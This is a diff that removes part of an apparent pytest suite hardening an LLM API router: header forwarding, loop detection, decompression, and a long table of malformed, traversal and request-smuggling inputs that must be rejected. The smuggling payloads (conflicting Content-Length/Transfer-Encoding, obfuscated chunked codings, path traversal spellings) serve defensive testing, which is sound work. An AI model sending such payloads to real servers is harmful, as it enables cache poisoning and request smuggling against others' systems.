-def test_a_model_name_breaks_neither_a_head_nor_the_log(model: str, path: str) -> None:
-    name = f"{model}{path}"
-    got = request(shared().port, "POST", path, {**ASKS[path], "model": name})
-    assert (got.status, got.get("Evil")) == (200, None)
-    assert len([r for r in stage().requests if r.model == name]) == 1
-    assert request(shared().port, "GET", "/v1/fine").status == 200
-    assert "\nEvil" not in shared().stderr.replace("\r", "\n")
-
-
-# -- many clients, and nobody who reads the log -----------------------------------
-
-
-def test_two_hundred_clients_at_once() -> None:
-    def one(number: int) -> str:
-        return request(shared().port, "GET", f"/v1/client-{number}").json["target"]
-
-    targets = at_once(one, range(400), workers=200)
-    assert targets == [f"/v1/client-{n}" for n in range(400)]
-
-
-def test_more_connections_wait_for_their_turn() -> None:
-    with pair(MAX_CONNECTIONS=2) as (router, upstream):
-        slow = upstream.plays([0.3, *FINE])
-        with connect(router.port) as first, connect(router.port) as second:
-            for sock in (first, second):
-                sock.sendall(post(CHAT, chat(slow)))
-            until(lambda: len(upstream.heard(slow)) == 2)
-            with connect(router.port) as third:
-                third.sendall(get("/v1/third"))
-                assert receive_until(first, b"fine")
-                assert not upstream.heard("/v1/third")
-                assert receive_until(third, b"/v1/third")
-
-
-@pytest.mark.parametrize("begin", [b"", get("/v1/x")])
-def test_idle_connections_make_room(begin: bytes) -> None:
-    with pair(MAX_CONNECTIONS=4) as (router, _), contextlib.ExitStack() as stack:
-        for _ in range(7):
-            sock = stack.enter_context(connect(router.port))
-            if begin:
-                assert parse(exchange(sock, begin)).status == 200
-        assert request(router.port, "GET", "/v1/y").status == 200
-
-
-def test_a_log_that_nobody_reads_stops_nothing() -> None:
-    settings = {"LISTEN_PORT": 0, "DEFAULT_UPSTREAM": stage().url}
-    with tempfile.TemporaryDirectory() as folder:
-        process = subprocess.Popen(
-            [sys.executable, str(SMOLROUTER)],
-            cwd=folder, env=bare_environment(settings), stderr=subprocess.PIPE,
-        )  # fmt: skip
-        try:
-            assert process.stderr
-            port = int(process.stderr.readline().rpartition(b":")[2])
-            with connect(port) as sock:
-                for _ in range(1200):  # more lines than a pipe holds
-                    exchange(sock, get("/v1/" + "x" * 100))
-                process.stderr.close()
-                for _ in range(3):
-                    assert parse(exchange(sock, get("/v1/x"))).status == 200
-        finally:
-            process.terminate()
-            assert process.wait(PATIENCE) == 0
-
-
-def test_an_answer_before_the_end_of_the_request() -> None:
-    refusal = head(413, [("Content-Length", "5"), ("Connection", "close")]) + b"large"
-
-    def refuse(listener: socket.socket) -> None:
-        while True:
-            with contextlib.suppress(ConnectionError), listener.accept()[0] as sock:
-                sock.recv(1000)
-                sock.sendall(refusal)
-                time.sleep(0.2)  # and nothing more is read
-
-    listener = socket.create_server(("127.0.0.1", 0))
-    threading.Thread(target=refuse, args=(listener,), daemon=True).start()
-    url = f"http://127.0.0.1:{listener.getsockname()[1]}"
-    with Router({"DEFAULT_UPSTREAM": url}) as router:
-        got = ask(router, "tiny", "x" * 8_000_000)
-        assert (got.status, got.content) == (413, b"large")
-
-
-# -- fields ------------------------------------------------------------------------
-
-
-def test_fields_that_travel_to_the_upstream() -> None:
-    name = stage().plays(FINE)
-    travels = [
-        ("Authorization", "Bearer sk-123"),
-        ("OpenAI-Organization", "org-1"),
-        ("Cookie", "a=b; c=d"),
-        ("traceparent", "00-1-2-01"),
-        ("X-Multi", "one"),
-        ("User-Agent", "test/1"),
-        ("X-Multi", "two"),
-        ("X-Empty", ""),
-        ("X-Latin", "caf\xe9"),
-    ]
-    request(shared().port, "POST", CHAT, chat(name), travels)
-    (heard,) = stage().heard(name)
-    for key, _ in travels:
-        assert heard.get_all(key) == [v for n, v in travels if n == key], key
-    assert heard.get_all("Host") == [stage().authority]
-    assert heard.get("Content-Type") == "application/json"
-
-
-def test_hop_by_hop_fields_stop_here_on_the_way_up() -> None:
-    name = stage().plays(FINE)
-    stops = [
-        ("Connection", ", X-Private ,,keep-alive"),
-        ("Connection", "X-SECOND"),
-        ("X-Private", "1"),
-        ("X-Second", "2"),
-        ("Keep-Alive", "timeout=5"),
-        ("TE", "trailers"),
-        ("Trailer", "X-Late"),
-        ("Upgrade", "h2c"),
-        ("Proxy-Connection", "keep-alive"),
-    ]
-    request(shared().port, "POST", CHAT, chat(name), stops)
-    (heard,) = stage().heard(name)
-    for key, _ in stops[2:]:
-        assert heard.get(key) is None, key
-    assert "x-private" not in (heard.get("Connection") or "").lower()
-
-
-@pytest.mark.parametrize("named", ["Content-Length", "Host", "Content-Type", "Via"])
-def test_connection_cannot_break_the_framing(named: str) -> None:
-    name = stage().plays(FINE)
-    got = request(shared().port, "POST", CHAT, chat(name), [("Connection", named)])
-    assert got.status == 200
-    (heard,) = stage().heard(name)
-    assert heard.json["model"] == name
-    assert heard.get_all("Host") == [stage().authority]
-    assert "smolrouter" in (heard.get("Via") or "")
-
-
-@pytest.mark.parametrize("stream", [False, True])
-def test_fields_of_an_answer(stream: bool) -> None:
-    fields = [
-        ("Set-Cookie", "a=1"),
-        ("Set-Cookie", "b=2"),
-        ("X-RateLimit-Remaining", "9"),
-        ("Connection", "X-Private, ,"),
-        ("X-Private", "1"),
-        ("Keep-Alive", "timeout=9"),
-        ("Proxy-Connection", "close"),
-        ("Upgrade", "h2c"),
-        ("Server", "test"),
-    ]
-    steps = (
-        sse_answer([{"n": 1}, "[DONE]"], fields=fields)
-        if stream
-        else (json_answer({"n": 1}, fields=fields))
-    )
-    got = ask(shared(), stage().plays(steps), stream=stream)
-    assert got.get_all("Set-Cookie") == ["a=1", "b=2"]
-    assert got.get("X-RateLimit-Remaining") == "9"
-    for key in ("X-Private", "Keep-Alive", "Proxy-Connection", "Upgrade"):
-        assert got.get(key) is None, key
-    for key in ("Request-Id", "Upstream", "Model", "Route", "Attempts"):
-        assert got.get(f"X-SmolRouter-{key}"), key
-    if stream:
-        assert got.get("Cache-Control") == "no-cache, no-transform"
-        assert got.get("X-Accel-Buffering") == "no"
-
-
-def test_via_is_added_to_the_others() -> None:
-    name = stage().plays(FINE)
-    request(shared().port, "POST", CHAT, chat(name), [("Via", "1.0 fred")])
-    (heard,) = stage().heard(name)
-    assert re.fullmatch(r"1\.0 fred, 1\.1 smolrouter\S*.*", ", ".join(heard.get_all("Via")))
-
-
-def test_a_request_that_comes_round_again_is_answered_508() -> None:
-    def round_again(received: Received) -> Iterable[Step]:
-        kept = [(n, v) for n, v in received.fields if n in ("Via", "Content-Type")]
-        port = shared().port
-        got = request(port, "POST", received.target, received.content, kept)
-        return answer(got.content, got.status)
-
-    name = stage().plays(round_again)
-    got = ask(shared(), name)
-    assert got.status == 508
-    assert "error" in got.json
-    assert len(stage().heard(name)) == 1
-
-
-def test_via_of_another_smolrouter_is_no_loop() -> None:
-    name = stage().plays(FINE)
-    via = [("Via", "1.1 smolrouter, 1.1 smolrouter-0000, 1.1 other")]
-    assert request(shared().port, "POST", CHAT, chat(name), via).status == 200
-
-
-def test_accept_encoding_is_identity_where_content_may_change() -> None:
-    name = stage().plays(FINE)
-    fields = [("Accept-Encoding", "gzip, deflate, br")]
-    request(shared().port, "POST", CHAT, chat(name), fields)
-    assert stage().heard(name)[0].get_all("Accept-Encoding") == ["identity"]
-
-
-CODINGS: dict[str, Callable[[bytes], bytes]] = {
-    "gzip": gzip.compress,
-    "deflate": zlib.compress,
-}
-
-
-@pytest.mark.parametrize("coding", CODINGS)
-def test_compressed_answer_is_decoded(coding: str) -> None:
-    content = dumps(completion({}, "<think>no</think>yes"))
-    packed = answer(
-        CODINGS[coding](content),
-        200,
-        [("Content-Encoding", coding)],
-        "application/json",
-    )
-    got = ask(shared(), stage().plays(packed))
-    assert got.text == "yes"
-    assert got.get("Content-Encoding") is None
-
-
-def test_compressed_stream_is_decoded_event_by_event() -> None:
-    gate = threading.Event()
-    packer = zlib.compressobj(wbits=31)
-
-    def pack(data: bytes) -> bytes:
-        return packer.compress(data) + packer.flush(zlib.Z_SYNC_FLUSH)
-
-    def script(received: Received) -> Iterator[Step]:
-        fields = [("Content-Encoding", "gzip")]
-        yield from stream_answer([pack(event({"n": 1}))], fields, whole=False)
-        gate.wait(PATIENCE)
-        yield from chunked(pack(event({"n": 2})) + packer.flush())
-
-    with connect(shared().port) as sock:
-        sock.sendall(post(CHAT, chat(stage().plays(script), stream=True)))
-        assert receive_until(sock, b'{"n":1}')
-        gate.set()
-        assert receive_until(sock, b'{"n":2}', b"0\r\n\r\n")
-
-
-@pytest.mark.parametrize("damage", [b"", b"\x00" * 9])
-def test_damaged_gzip_never_ends_clean(damage: bytes) -> None:
-    packed = gzip.compress(dumps(completion({}, "word " * 999)))[:-20] + damage
-    fields = [("Content-Encoding", "gzip")]
-    got = ask(shared(), stage().plays(answer(packed, 200, fields, "application/json")))
-    assert ended_badly(got)
-
-
-TARGETS = [
-    "/v1/files?limit=2&after=x",
-    "/v1/q?a=b%20c&d=%2F..%2f&e",
-    "/v1/files/a%20b",
-    "/v1/a;b=c?x=?y/../z",
-    "/v1/x?http://a/b",
-    "/v1/caf%C3%A9?%ff",
-    "/v1/a+b?a+b",
-    "/v1/files/file-1/content",
-]
-
-
-@pytest.mark.parametrize("target", TARGETS)
-def test_target_survives(target: str) -> None:
-    assert request(shared().port, "GET", target).json["target"] == target
-
-
-def test_query_of_a_post_survives() -> None:
-    name = stage().plays(FINE)
-    request(shared().port, "POST", f"{CHAT}?api-version=1&x=%20", chat(name))
-    assert stage().heard(name)[0].target == f"{CHAT}?api-version=1&x=%20"
-
-
-def test_spellings_of_an_upstream_url() -> None:
-    spellings = [
-        f"{prefix}{suffix}"
-        for prefix in ("", "/some/prefix")
-        for suffix in ("", "/", "/v1", "/v1/")
-    ]
-    with Upstream(lambda r: json_answer({"target": r.target})) as upstream:
-        servers = {f"s{n}": upstream.url + end for n, end in enumerate(spellings)}
-        routes = [{"match": {"model": s}, "route": {"upstream": s}} for s in servers]
-        with Router({}, {"servers": servers, "routes": routes}) as router:
-            for name, end in zip(servers, spellings, strict=True):
-                prefix = "/some/prefix" if "prefix" in end else ""
-                assert ask(router, name).json["target"] == f"{prefix}{CHAT}", end
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
-        "/v1/../OUT", "/v1/%2e%2e/OUT", "/v1/.%2E/OUT", "/v1/x/../../OUT", "//OUT",
-        "/v1/./../OUT", "/v1//../OUT", "/../OUT", "/v1/../../../OUT",
-    ],
-)  # fmt: skip
-def test_no_path_leads_outside(path: str) -> None:
-    mark = stage().plays(FINE)
-    target = path.replace("OUT", mark)
-    data = raw(shared().port, get(target, [("Connection", "close")]), answers=0)
-    assert data.startswith(b"HTTP/1.1 404 ")
-    assert not stage().heard(mark)
-
-
-@pytest.mark.parametrize(
-    "path",
-    [
-        "/api/logs",
-        "//api/logs",
-        "/api/./logs",
-        "/%61pi/logs",
-        "/api/logs/",
-        "/api/x/../logs",
-        "/api//logs",
-        "/api/%6cogs",
-        "/v1/../api/logs",
-        "/API/logs",
-        "/api/logs?x=/v1/",
-        "/api/logs%00",
-        "/;/api/logs",
-        "http://router/api/logs",
-    ],
-)
-def test_no_spelling_of_a_path_opens_the_log(path: str) -> None:
-    settings = {"WEBUI_SECURITY": "ALWAYS_AUTH", "JWT_SECRET": SECRET}
-    router = router_for({"DEFAULT_UPSTREAM": stage().url, **settings})
-    data = raw(router.port, get(path, [("Connection", "close")]), answers=0)
-    assert int(data.split(b" ")[1]) >= 400
-
-
-def test_router_answers_unknown_paths_itself() -> None:
-    got = request(shared().port, "GET", "/unknown/path")
-    assert got.status == 404
-    assert got.json["error"]
-    assert not stage().heard("/unknown/path")
-
-
-# == 2. Requests that are not HTTP =================================================
-
-EVIL = b"POST /v1/EVIL HTTP/1.1\r\nHost: router\r\n"
-NEXT = b"GET /v1/EVIL-smuggled HTTP/1.1\r\nHost: router\r\n\r\n"
-HELLO = b'{"model":"EVIL"}'
-
-
-def sized(value: bytes, content: bytes = HELLO + NEXT) -> bytes:
-    """A request with this Content-Length and another one behind it."""
-    return EVIL + b"Content-Length: " + value + b"\r\n\r\n" + content
-
-
-def coded(line: bytes, more: bytes = b"") -> bytes:
-    """A request with this field line, its chunks and another request behind it."""
-    size = b"%x\r\n%s\r\n0\r\n\r\n" % (len(HELLO), HELLO)
-    return EVIL + line + b"\r\n" + more + b"\r\n" + size + NEXT
-
-
-def chunks(body: bytes) -> bytes:
-    """A request whose chunked content is exactly this."""
-    return EVIL + b"Transfer-Encoding: chunked\r\n\r\n" + body + b"\r\n\r\n"
-
-
-def fielded(lines: bytes, host: bytes = b"Host: router\r\n") -> bytes:
-    """A request with these field lines."""
-    return b"GET /v1/EVIL HTTP/1.1\r\n" + host + lines + b"\r\n"
-
-
-def started(first: bytes) -> bytes:
-    """A request with this first line."""
-    return first + b"\r\nHost: router\r\n\r\n"
-
-
-CODED = b"Transfer-Encoding: chunked"
-HEX = b"%x" % len(HELLO)
-ONE = HEX + b"\r\n" + HELLO + b"\r\n"
-
-MALFORMED: dict[str, tuple[bytes, set[int]]] = {
-    name: (data, {400})
-    for name, data in {
-        # lengths
-        "length and coding": coded(CODED, b"Content-Length: 4\r\n"),
-        "coding and length": coded(b"Content-Length: 4", CODED + b"\r\n"),
-        "length of zero and coding": coded(CODED, b"Content-Length: 0\r\n"),
-        "two lengths": sized(b"16\r\nContent-Length: 20"),
-        "one length twice": sized(b"16\r\nContent-Length: 16"),
-        "list of lengths": sized(b"16, 16"),
-        "list of different lengths": sized(b"16, 20"),
-        "signed length": sized(b"+16"),
-        "negative length": sized(b"-16"),
-        "negative zero": sized(b"-0"),
-        "hexadecimal length": sized(b"0x10"),
-        "length with underscore": sized(b"1_6"),
-        "length with a space inside": sized(b"1 6"),
-        "length behind a no-break space": sized(b"\xa016"),
-        "length before a no-break space": sized(b"16\xa0"),
-        "length behind a vertical tab": sized(b"\x0b16"),
-        "length behind a form feed": sized(b"\x0c16"),
-        "length in Arabic digits": sized("١٦".encode()),
-        "length in Latin-1 superscripts": sized(b"\xb2"),
-        "no length in the field": sized(b""),
-        "length with a fraction": sized(b"16.0"),
-        "length with an exponent": sized(b"1e1"),
-        "length with a semicolon": sized(b"16;"),
-        "quoted length": sized(b'"16"'),
-        "length of 19 digits": sized(b"1" * 19),
-        "length padded with zeros": sized(b"0" * 20 + b"16"),
-        "length of 5,000 digits": sized(b"1" * 5000),
-        # transfer codings
-        "identity coding": coded(b"Transfer-Encoding: identity"),
-        "gzip": coded(b"Transfer-Encoding: gzip"),
-        "gzip, chunked": coded(b"Transfer-Encoding: gzip, chunked"),
-        "chunked, gzip": coded(b"Transfer-Encoding: chunked, gzip"),
-        "chunked twice in one field": coded(b"Transfer-Encoding: chunked, chunked"),
-        "chunked twice in two fields": coded(CODED, CODED + b"\r\n"),
-        "chunked and identity": coded(CODED, b"Transfer-Encoding: identity\r\n"),
-        "identity and chunked": coded(b"Transfer-Encoding: identity", CODED + b"\r\n"),
-        "xchunked": coded(b"Transfer-Encoding: xchunked"),
-        "chunked with a parameter": coded(b"Transfer-Encoding: chunked;q=1"),
-        "chunked with a comma": coded(b"Transfer-Encoding: chunked,"),
-        "chunked behind a comma": coded(b"Transfer-Encoding: ,chunked"),
-        "quoted chunked": coded(b'Transfer-Encoding: "chunked"'),
-        "chunked behind NUL": coded(b"Transfer-Encoding: \0chunked"),
-        "chunked before a vertical tab": coded(b"Transfer-Encoding: chunked\x0b"),
-        "chunked before a no-break space": coded(b"Transfer-Encoding: chunked\xa0"),
-        "empty coding": coded(b"Transfer-Encoding:"),
-        "coding with a Kelvin sign": coded("Transfer-Encoding: chun\u212aed".encode()),
-        "coding in HTTP/1.0": coded(CODED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
-        "coding with a space before the colon": coded(b"Transfer-Encoding : chunked"),
-        "coding with a tab before the colon": coded(b"Transfer-Encoding\t: chunked"),
-        "coding behind a space": coded(b" Transfer-Encoding: chunked"),
-        "coding behind a vertical tab": coded(b"\x0bTransfer-Encoding: chunked"),
-        "folded coding": coded(b"Transfer-Encoding:\r\n chunked"),
-        "coding behind a bare LF": coded(b"Transfer-Encoding:\n chunked"),
-        "coding hidden by a bare CR": coded(b"X: a\rTransfer-Encoding: chunked"),
-        "coding hidden by a bare LF": coded(b"X: a\nTransfer-Encoding: chunked"),
-        # chunks
-        "no chunk-size": chunks(b"\r\n"),
-        "chunk-size of letters": chunks(b"zz\r\n"),
-        "signed chunk-size": chunks(b"+" + ONE + b"0"),
-        "negative chunk-size": chunks(b"-" + ONE + b"0"),
-        "chunk-size with 0x": chunks(b"0x" + ONE + b"0"),
-        "chunk-size with underscore": chunks(b"1_0\r\n" + HELLO + b"\r\n0"),
-        "chunk-size behind a space": chunks(b" " + ONE + b"0"),
-        "chunk-size before a vertical tab": chunks(HEX + b"\x0b" + ONE[2:] + b"0"),
-        "chunk-size before a no-break space": chunks(HEX + b"\xa0" + ONE[2:] + b"0"),
-        "chunk-size in Arabic digits": chunks("١٠\r\n".encode() + HELLO + b"\r\n0"),
-        "chunk-size of 16 digits": chunks(b"0" * 14 + ONE + b"0"),
-        "chunk-size beyond 64 bits": chunks(b"1" + b"0" * 16 + b"\r\n"),
-        "chunk line with a bare LF": chunks(HEX + b"\n" + HELLO + b"\r\n0"),
-        "chunk line with a bare CR": chunks(HEX + b"\r" + HELLO + b"\r\n0"),
-        "bare LF in an extension": chunks(HEX + b";a\nb\r\n" + HELLO + b"\r\n0"),
-        "bare CR in an extension": chunks(HEX + b";a\rb\r\n" + HELLO + b"\r\n0"),
-        "NUL in an extension": chunks(HEX + b";a\0b\r\n" + HELLO + b"\r\n0"),
-        "chunk data without an end": chunks(HEX + b"\r\n" + HELLO + b"0"),
-        "chunk data that ends with LF": chunks(HEX + b"\r\n" + HELLO + b"\n0"),
-        "chunk data that ends with CR": chunks(HEX + b"\r\n" + HELLO + b"\r0"),
-        "chunk data with other bytes at its end": chunks(
-            HEX + b"\r\n" + HELLO + b"XX0"),
-        "chunk data longer than its size": chunks(b"1\r\n" + HELLO + b"\r\n0"),
-        "signed last chunk": chunks(ONE + b"-0"),
-        "last chunk with 0x": chunks(ONE + b"0x0"),
-        "last chunk of 17 zeros": chunks(ONE + b"0" * 17),
-        "folded trailer": chunks(ONE + b"0\r\nA: b\r\n c"),
-        "trailer without a colon": chunks(ONE + b"0\r\nnonsense"),
-        "trailer with a space before the colon": chunks(ONE + b"0\r\nA : b"),
-        "trailer with a bare LF": chunks(ONE + b"0\r\nA: b\nC: d"),
-        # fields
-        "bare LF ends every line": (
-            fielded(b"A: b\r\n").replace(b"\r\n", b"\n") + b"\r\n\r\n"),
-        "bare LF ends one line": fielded(b"A: b\nC: d\r\n"),
-        "bare CR ends one line": fielded(b"A: b\rC: d\r\n"),
-        "bare CR at the end of a value": fielded(b"A: b\r\r\n"),
-        "bare LF before the content": fielded(b"A: b\n\n"),
-        "folded field": fielded(b"A: b\r\n c\r\n"),
-        "folded field with a tab": fielded(b"A: b\r\n\tc\r\n"),
-        "folded first field": fielded(b"A: b\r\n", b" Host: router\r\n"),
-        "space before the colon": fielded(b"A : b\r\n"),
-        "no colon": fielded(b"nonsense\r\n"),
-        "no name": fielded(b": b\r\n"),
-        "space in a name": fielded(b"A B: c\r\n"),
-        "bracket in a name": fielded(b"A(b): c\r\n"),
-        "letter beyond ASCII in a name": fielded(b"\xc4: c\r\n"),
-        "NUL in a name": fielded(b"A\0: b\r\n"),
-        "NUL in a value": fielded(b"A: b\0c\r\n"),
-        "escape in a value": fielded(b"A: \x1b[2J\r\n"),
-        "bell in a value": fielded(b"A: \x07\r\n"),
-        "delete in a value": fielded(b"A: \x7f\r\n"),
-        "two Hosts": fielded(b"Host: other\r\n"),
-        "the same Host twice": fielded(b"Host: router\r\n"),
-        "no Host": fielded(b"A: b\r\n", b""),
-        "Host with a space": fielded(b"", b"Host: a b\r\n"),
-        "Host with a comma": fielded(b"", b"Host: a, b\r\n"),
-        "Host with a path": fielded(b"", b"Host: router/x\r\n"),
-        "Host with a user": fielded(b"", b"Host: user@router\r\n"),
-        "Host with a signed port": fielded(b"", b"Host: router:+80\r\n"),
-        "Host with a port of letters": fielded(b"", b"Host: router:http\r\n"),
-        "Host with a port of six digits": fielded(b"", b"Host: router:123456\r\n"),
-        "Host with two ports": fielded(b"", b"Host: router:80:80\r\n"),
-        "Host with an open bracket": fielded(b"", b"Host: [::1\r\n"),
-        "Host with a bracket behind a name": fielded(b"", b"Host: router[::1]\r\n"),
-        "Host with a zone": fielded(b"", b"Host: [fe80::1%eth0]\r\n"),
-        "Host with a backslash": fielded(b"", b"Host: router\\evil\r\n"),
-        "Host with a query": fielded(b"", b"Host: router?x\r\n"),
-        "Host beyond ASCII": fielded(b"", b"Host: r\xc3\xb6uter\r\n"),
-        "Host with NUL": fielded(b"", b"Host: router\0.evil\r\n"),
-        "Host behind a space before the colon": fielded(b"", b"Host : router\r\n"),
-        "folded Host": fielded(b"", b"Host:\r\n router\r\n"),
-        # request lines
-        "no method": started(b"/v1/EVIL HTTP/1.1"),
-        "bracket in the method": started(b"G(T /v1/EVIL HTTP/1.1"),
-        "NUL in the method": started(b"G\0T /v1/EVIL HTTP/1.1"),
-        "letter beyond ASCII in the method": started(b"G\xc9T /v1/EVIL HTTP/1.1"),
-        "two spaces": started(b"GET  /v1/EVIL HTTP/1.1"),
-        "tab for a space": started(b"GET\t/v1/EVIL HTTP/1.1"),
-        "space before the method": started(b" GET /v1/EVIL HTTP/1.1"),
-        "space after the version": started(b"GET /v1/EVIL HTTP/1.1 "),
-        "space in the target": started(b"GET /v1/EVIL x HTTP/1.1"),
-        "NUL in the target": started(b"GET /v1/EVIL\0 HTTP/1.1"),
-        "delete in the target": started(b"GET /v1/EVIL\x7f HTTP/1.1"),
-        "bare CR in the target": started(b"GET /v1/EVIL\r HTTP/1.1"),
-        "bare CR before the version": started(b"GET /v1/EVIL\rHTTP/1.1"),
-        "relative target": started(b"GET v1/EVIL HTTP/1.1"),
-        "user in the authority": started(b"GET http://user@router/v1/EVIL HTTP/1.1"),
-        "no authority": started(b"GET http:///v1/EVIL HTTP/1.1"),
-        "another scheme": started(b"GET ftp://router/v1/EVIL HTTP/1.1"),
-        "a file's scheme": started(b"GET file:///v1/EVIL HTTP/1.1"),
-        "incomplete percent-encoding": started(b"GET /v1/EVIL%2 HTTP/1.1"),
-        "percent-encoding completed by another": started(b"GET /v1/EVIL/%2%65%2%65/x HTTP/1.1"),
-        "percent-encoding of letters": started(b"GET /v1/EVIL%zz HTTP/1.1"),
-        "percent-encoding of UTF-16": started(b"GET /v1/EVIL%u002e HTTP/1.1"),
-        "script's scheme": started(b"GET javascript://router/v1/EVIL HTTP/1.1"),
-        "authority alone": started(b"GET router:80 HTTP/1.1"),
-        "CONNECT": started(b"CONNECT router:443 HTTP/1.1"),
-        "asterisk without OPTIONS": started(b"GET * HTTP/1.1"),
-        "fragment in the target": started(b"GET /v1/EVIL#x HTTP/1.1"),
-        "query alone": started(b"GET ?/v1/EVIL HTTP/1.1"),
-        "letters beyond ASCII in the target": started(b"GET /v1/\xc3\xa9EVIL HTTP/1.1"),
-        "tab in the target": started(b"GET /v1/EVIL\tx HTTP/1.1"),
-        "two requests on one line": started(b"GET /v1/EVIL HTTP/1.1 GET /v1/EVIL HTTP/1.1"),
-        "no CR behind the version": b"GET /v1/EVIL HTTP/1.1\nHost: router\r\n\r\n",
-        "an answer for a request": b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\nX: EVIL\r\n\r\n",
-        "Redis": b"*1\r\n$4\r\nEVIL\r\n\r\n",
-        "SSH": b"SSH-2.0-EVIL\r\n\r\n",
-        "PROXY protocol": b"PROXY TCP4 192.0.2.1 192.0.2.2 1 2\r\n" + started(
-            b"GET /v1/EVIL HTTP/1.1"),
-        "binary PROXY protocol": b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0cEVIL",
-        "no target": started(b"GET HTTP/1.1"),
-        "TLS": b"\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03EVIL\r\n\r\n",
-        "noise": b"\xff\xfe\xfd EVIL\r\n\r\n",
-    }.items()
-} | {
-    # versions
-    "HTTP/0.9": (b"GET /v1/EVIL\r\n\r\n", {400, 505}),
-    "named HTTP/0.9": (started(b"GET /v1/EVIL HTTP/0.9"), {400, 505}),
-    "HTTP/2 preface": (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", {400, 505}),
-    "HTTP/2.0": (started(b"GET /v1/EVIL HTTP/2.0"), {505}),
-    "HTTP/3.0": (started(b"GET /v1/EVIL HTTP/3.0"), {505}),
-    "version in lower case": (started(b"GET /v1/EVIL http/1.1"), {400, 505}),
-    "version without a minor": (started(b"GET /v1/EVIL HTTP/1"), {400, 505}),
-    "version with a third part": (started(b"GET /v1/EVIL HTTP/1.1.1"), {400, 505}),
-    "version with more digits": (started(b"GET /v1/EVIL HTTP/1.10"), {400, 505}),
-    "version in Arabic digits": (started("GET /v1/EVIL HTTP/١.١".encode()), {400, 505}),
-    "another protocol": (started(b"GET /v1/EVIL ICY/1.1"), {400, 505}),
-    # sizes
-    "endless target": (started(b"GET /v1/EVIL" + b"a" * 20_000 + b" HTTP/1.1"), {414}),
-    "very endless target": (started(b"GET /v1/EVIL" + b"a" * 200_000), {414}),
-    "endless method": (started(b"G" * 20_000 + b" /v1/EVIL HTTP/1.1"), {400, 414, 501}),
-    "one large field": (fielded(b"A: " + b"b" * 17_000 + b"\r\n"), {431}),
-    "one very large field": (fielded(b"A: " + b"b" * 200_000 + b"\r\n"), {431}),
-    "one large name": (fielded(b"A" * 17_000 + b": b\r\n"), {400, 431}),
-    "large fields together": (fielded((b"A: " + b"b" * 8000 + b"\r\n") * 9), {431}),
-    "many small fields": (fielded(b"A: b\r\n" * 129), {431}),
-    "very many small fields": (fielded(b"A:\r\n" * 30_000), {431}),
-    "long chunk extension": (chunks(HEX + b";" + b"a" * 2000 + b"\r\n"), {400, 431}),
-    "endless chunk extension": (chunks(HEX + b";" + b"a" * 200_000), {400, 431}),
-    "many chunk extensions": (
-        chunks((b"1;" + b"a" * 900 + b"\r\n \r\n") * 40 + b"0"), {400, 431}),
-    "long trailers": (
-        chunks(ONE + b"0\r\n" + (b"A: " + b"b" * 900 + b"\r\n") * 12), {400, 431}),
-    "content too large": (sized(b"9" * 18), {413}),
-}  # fmt: skip
-
-
-@pytest.mark.parametrize("name", MALFORMED)
-def test_malformed_request(name: str) -> None:
-    data, statuses = MALFORMED[name]
-    mark = f"~{list(MALFORMED).index(name):03}"  # as long as EVIL
-    got = raw(shared().port, data.replace(b"EVIL", mark.encode()), answers=0)
-    answers, rest = split_answers(got)
-    assert [a.status for a in answers if a.status not in statuses] == []
-    assert (len(answers), rest) == (1, b"")  # and the connection was closed
-    assert answers[0].get("Connection") == "close"
-    assert not stage().heard(mark)
-    assert request(shared().port, "GET", "/v1/fine").status == 200
-
-
-@pytest.mark.parametrize(
-    "data",
-    {
-        "in the request line": b"POST /v1/EV",
-        "in the fields": EVIL + b"Content-Le",
-        "before the content": EVIL + b"Content-Length: 16\r\n\r\n",
-        "in the content": EVIL + b"Content-Length: 16\r\n\r\n" + HELLO[:-1],
-        "in a chunk-size": EVIL + CODED + b"\r\n\r\n1",
-        "in a chunk": EVIL + CODED + b"\r\n\r\n" + ONE[:9],
-        "before the last chunk": EVIL + CODED + b"\r\n\r\n" + ONE,
-        "in the trailers": EVIL + CODED + b"\r\n\r\n" + ONE + b"0\r\n",
-    }.items(),
-    ids=lambda item: item[0],
-)
-def test_truncated_request(data: tuple[str, bytes]) -> None:
-    mark = f"~{len(data[1]):03}"
-    with connect(shared().port) as sock:
-        sock.sendall(data[1].replace(b"EVIL", mark.encode()))
-        sock.shutdown(socket.SHUT_WR)
-        answers, _ = split_answers(exchange(sock, answers=0))
-    assert [a.status for a in answers] in ([], [400])
-    assert request(shared().port, "GET", "/v1/fine").status == 200
-    assert not stage().heard(mark)
-
-
-def test_limits_that_must_work() -> None:
-    target = "/v1/" + "a" * (8000 - len("GET /v1/ HTTP/1.1"))
-    many = [(f"X-{n}", str(n)) for n in range(88)]  # 90 with Host and Connection
-    for fields in ([], many, [("X-Large", "b" * 8000)]):
-        asked = get(target, [*fields, ("Connection", "close")])
-        got = parse(raw(shared().port, asked, answers=0))
-        assert got.json["target"] == target
-    heard = stage().heard(target)
-    assert [heard[1].get(name) for name, _ in many] == [value for _, value in many]
-
-
-def test_content_up_to_the_limit() -> None:
-    limit = 2000
-    router = router_for({"DEFAULT_UPSTREAM": stage().url, "MAX_REQUEST_SIZE": limit})
-    padding = limit - len(dumps(chat("tiny", "")))
-    fits, over = (dumps(chat("tiny", "z" * (padding + more))) for more in (0, 1))
-    assert request(router.port, "POST", CHAT, fits).status == 200
-    assert parse(raw(router.port, post_chunks(CHAT, fits))).status == 200
-    for data in (
-        post(CHAT, over),
-        post_chunks(CHAT, over),
-        post_chunks(CHAT, *[b" " * 99] * 40),
-    ):
-        got = parse(raw(router.port, data, answers=0))
-        assert (got.status, got.get("Connection")) == (413, "close")
-        assert "2000" in got.json["error"]["message"]
-    assert len(stage().heard("z" * padding)) == 2
-
-
-LATE: dict[str, tuple[bytes, float]] = {
-    "half a request line": (b"GET /v1/dawdler", 0),
-    "half a head": (b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-", 0),
-    "a head drop by drop": (
-        b"GET /v1/dawdler HTTP/1.1\r\nHost: router\r\nX-" + b"a" * 40, 1),
-    "half a content": (post("/v1/dawdler", chat("dawdler"))[:-5], 0),
-    "half a chunk": (post_chunks("/v1/dawdler", dumps(chat("dawdler")))[:-12], 0),
-}  # fmt: skip
-
-
-def dawdle(port: int, data: bytes, pause: float) -> bytes:
